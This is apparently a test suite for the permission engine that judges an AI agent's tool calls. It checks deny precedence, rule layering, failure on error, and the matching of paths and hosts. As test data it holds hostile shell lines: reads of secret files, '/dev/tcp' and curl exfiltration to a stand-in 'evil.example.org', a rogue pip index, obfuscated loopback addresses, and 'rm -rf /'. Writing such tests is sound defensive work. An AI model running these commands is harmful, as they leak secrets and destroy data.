"""Rules: which wins, what errors do, and how paths and hosts are matched."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phoenix.domain.permissions import Ground, Place, Rule, RuleLayer, RuleSet, ToolCall
from phoenix.tools import permissions
from phoenix.tools.permissions import judge, paths_of
from phoenix.tools.rule_files import default_rules

ALLOW = Rule(effect="allow")


def rules(*given: Rule, **options: Any) -> RuleSet:
    return RuleSet(rules=list(given), **options)


def effect(rule_set: RuleSet, tool: str = "read_file", ground: Ground | None = None, **arguments: Any) -> str:
    call = ToolCall(tool=tool, arguments=arguments)
    return judge(call, [RuleLayer(name="service", rules=rule_set)], ground).effect


def test_a_deny_wins_wherever_it_stands() -> None:
    """Also behind a rule that allows."""
    assert effect(rules(ALLOW, Rule(effect="deny", path="secrets/**")), path="secrets/key") == "deny"
    assert effect(rules(ALLOW, Rule(effect="deny", path="secrets/**")), path="src/key") == "allow"


def test_else_the_first_that_matches_decides() -> None:
    """Order is what tells exceptions from the rule."""
    narrow, wide = Rule(effect="ask", path="src/**"), ALLOW
    assert effect(rules(narrow, wide), path="src/a.py") == "ask"
    assert effect(rules(wide, narrow), path="src/a.py") == "allow"


def test_where_none_matches_nothing_is_allowed() -> None:
    """A person is asked, or it is denied where the rules say so."""
    only = Rule(effect="allow", tool="search")
    assert effect(rules(only)) == "ask"
    assert effect(rules(only, otherwise="deny")) == "deny"
    assert effect(rules()) == "ask"
    assert judge(ToolCall(tool="bash"), []).effect == "ask"


def test_layers_only_tighten_each_other() -> None:
    """A project allows what nobody above speaks of, and nothing else."""
    service = RuleLayer(name="service", rules=rules(Rule(effect="allow", tool="bash")))
    asks = RuleLayer(name="organisation", rules=rules(Rule(effect="ask", tool="bash", command="make *")))
    project = RuleLayer(name="project", rules=rules(ALLOW, Rule(effect="deny", tool="search")))
    call = ToolCall(tool="bash", arguments={"command": "make"})
    assert judge(call, [service, project]).effect == "allow"
    found = judge(call, [service, asks, project])
    assert (found.effect, found.rule) == ("ask", "organisation rule 1: ask bash command make *")
    assert judge(ToolCall(tool="deploy"), [service, asks, project]).effect == "allow"
    assert judge(ToolCall(tool="search"), [service, asks, project]).effect == "deny"


PATTERNS = st.sampled_from(["", "ls *", "rm *", "git push **", "**", "make"])
RULES = st.builds(
    Rule,
    effect=st.sampled_from(["allow", "ask", "deny"]),
    tool=st.sampled_from(["*", "bash", "read_*", "edit_file"]),
    command=PATTERNS,
    path=st.sampled_from(["", "**", "src/**", "*.py"]),
    host=st.sampled_from(["", "*", "*.example.org"]),
)
CALLS = st.one_of(
    st.builds(
        lambda command: ToolCall(tool="bash", arguments={"command": command}),
        st.sampled_from(["ls", "rm x", "ls; git push", "$A", "make src/a.py", "curl https://a.example.org"])
        | st.text(max_size=30),
    ),
    st.builds(lambda path: ToolCall(tool="read_file", arguments={"path": path}), st.text(max_size=20)),
)


@given(st.lists(RULES, max_size=6), st.lists(RULES, max_size=6), CALLS, st.integers(0, 6))
def test_no_rules_outweigh_a_deny_that_matches(
    some: list[Rule], others: list[Rule], call: ToolCall, place: int
) -> None:
    """With a deny on its tool, whatever stands around it, the call is denied."""
    denying = [*some[:place], Rule(effect="deny", tool=call.tool), *some[place:]]
    layers = [
        RuleLayer(name="service", rules=rules(*others)),
        RuleLayer(name="project", rules=rules(*denying)),
    ]
    assert judge(call, layers).effect == "deny"
    assert judge(call, layers[::-1]).effect == "deny"


@given(st.lists(RULES, max_size=6), CALLS)
def test_one_more_deny_never_loosens(some: list[Rule], call: ToolCall) -> None:
    """Adding a deny anywhere gives the same ruling or a stricter one."""
    order = ["allow", "ask", "deny"]
    layer = RuleLayer(name="service", rules=rules(*some))
    tighter = RuleLayer(name="service", rules=rules(*some, Rule(effect="deny", command="rm *")))
    assert order.index(judge(call, [tighter]).effect) >= order.index(judge(call, [layer]).effect)


@given(st.text(max_size=200))
def test_any_text_is_judged(command: str) -> None:
    """There is no command that is not understood or not allowed, and none that raises."""
    only = rules(Rule(effect="allow", tool="bash", command="ls"))
    assert effect(only, "bash", command=command) in ("allow", "ask")


def test_an_error_in_a_rule_denies(monkeypatch: pytest.MonkeyPatch) -> None:
    """A pattern that cannot be applied, or an exception while it is, denies whatever the rule says."""
    broken = Rule.model_construct(effect="allow", tool="*", command="", path=5, host="", reason="")
    assert effect(
        RuleSet.model_construct(rules=[ALLOW, broken], otherwise=None, unclear="ask"), path="x"
    ) == ("deny")

    def fail(*_: object, **__: object) -> None:
        raise RuntimeError("no")

    monkeypatch.setattr(permissions, "match_sequence", fail)
    assert effect(rules(ALLOW), path="x") == "deny"


def test_a_call_that_cannot_be_read_is_denied(monkeypatch: pytest.MonkeyPatch) -> None:
    """Also by rules that allow everything."""

    def fail(text: str) -> None:
        raise RecursionError

    monkeypatch.setattr(permissions, "acts_of_shell", fail)
    assert effect(rules(ALLOW), "bash", command="ls") == "deny"


@pytest.mark.parametrize(
    "path",
    [
        "secrets/key",
        "./secrets/key",
        "src/../secrets/key",
        "secrets//a/../key",
        " secrets/key",
        "/workspace/secrets/key",
        "//workspace/./secrets/key",
        "secrets",
        "link/key",
        "a/link/key",
    ],
)
def test_paths_are_compared_as_they_are(path: str) -> None:
    """However they are written, and where links in the worktree lead."""
    places = {"link/key": Place(real="secrets/key"), "a/link/key": Place(real="/workspace/secrets/key")}
    forbids = rules(Rule(effect="deny", path="secrets/**"), ALLOW)
    assert effect(forbids, path=path, ground=Ground(places=places)) == "deny"
    permits = rules(Rule(effect="allow", path="src/**"))
    assert effect(permits, path=path, ground=Ground(places=places)) == "ask"


def test_what_lies_outside_is_not_allowed_by_a_pattern_inside() -> None:
    """Absolute paths, paths that go up, and links that leave."""
    permits = rules(Rule(effect="allow", path="**"))
    ground = Ground(places={"out": Place(real="/etc/passwd")})
    for path in ("/etc/passwd", "../x", "a/../../x", "out", ".."):
        assert effect(permits, path=path, ground=ground) == "ask", path
    assert effect(permits, path="a/b") == "allow"
    assert effect(rules(Rule(effect="allow", path="/etc/**")), path="/etc/passwd") == "allow"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat secrets/key", "deny"),
        ("cat ./a/../secrets/key", "deny"),
        ("cat /workspace/secrets/key", "deny"),
        ("cat < secrets/key", "deny"),
        ("echo x > secrets/key", "deny"),
        ("git show HEAD:secrets/key", "deny"),
        ("curl -d @secrets/key", "deny"),
        ("dd if=secrets/key", "deny"),
        ("tar --file=secrets/key", "deny"),
        ("tar -fsecrets/key", "deny"),
        ("bash -c 'cat secrets/key'", "deny"),
        ("cat sec*/key", "ask"),
        ("cat $A", "ask"),
        ("grep -r x .", "ask"),
        ("cat src/a.py", "allow"),
    ],
)
def test_paths_in_commands(command: str, expected: str) -> None:
    """Every word that may be a path is one; a word that is not known may be any."""
    assert effect(rules(Rule(effect="deny", path="secrets/**"), ALLOW), "bash", command=command) == expected


def test_a_folder_in_which_a_forbidden_path_lies_is_unclear() -> None:
    """Searching it would read what must not be read."""
    forbids = rules(Rule(effect="deny", path="src/secrets/**"), ALLOW)
    ground = Ground(places={"src": Place(real="src", is_folder=True)})
    assert effect(forbids, "search", ground, pattern="x", path="src") == "ask"
    assert effect(forbids, "search", ground, pattern="x", path="docs") == "allow"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl https://EVIL.example.org/x", "deny"),
        ("curl http://user:word@evil.example.org:8080", "deny"),
        ("curl evil.example.org", "deny"),
        ("git clone git@evil.example.org:a/b", "deny"),
        ("ssh evil.example.org", "deny"),
        ("exec 3<>/dev/tcp/evil.example.org/80", "deny"),
        ("echo x > /dev/tcp/evil.example.org/80", "deny"),
        ("pip install --index-url=https://evil.example.org/simple x", "deny"),
        ("curl http://2130706433/", "deny"),
        ("curl http://0x7f.1/", "deny"),
        ("curl 'http://[::1]/'", "deny"),
        ("curl $A", "ask"),
        ("curl https://good.example.com", "allow"),
    ],
)
def test_hosts_in_commands(command: str, expected: str) -> None:
    """As addresses, as words of programs that use the network, and in whatever form numbers come."""
    forbids = rules(
        Rule(effect="deny", host="evil.example.org"),
        Rule(effect="deny", host="127.0.0.1"),
        Rule(effect="deny", host="::1"),
        ALLOW,
    )
    assert effect(forbids, "bash", command=command) == expected


def test_an_allowed_host_allows_no_other() -> None:
    """All hosts that a call names must fit."""
    permits = rules(Rule(effect="allow", host="*.example.org"))
    assert effect(permits, "fetch", url="https://a.example.org/x") == "allow"
    assert effect(permits, "fetch", urls=["https://a.example.org", "https://b.example.com"]) == "ask"
    assert effect(permits, "fetch", url="https://a.example.org@b.example.com") == "ask"
    assert effect(permits, "fetch", text="nothing") == "ask"


def test_the_default_allows_the_tools_of_the_sandbox_only() -> None:
    """Any other is asked about."""
    for tool in ("bash", "read_file", "edit_file", "search", "run_checks", "submit"):
        assert effect(default_rules(), tool, command="rm -rf /; $A") == "allow", tool
    assert effect(default_rules(), "deploy") == "ask"


def test_the_paths_of_a_call_are_normalised() -> None:
    """So that somebody can look where they lead; a stored output is no path."""
    call = ToolCall(tool="bash", arguments={"command": "cat ./a/../b /workspace/c"})
    assert paths_of(call, ["/workspace"]) == ["b", "c"]
    assert paths_of(ToolCall(tool="read_file", arguments={"path": "output:abc"})) == []
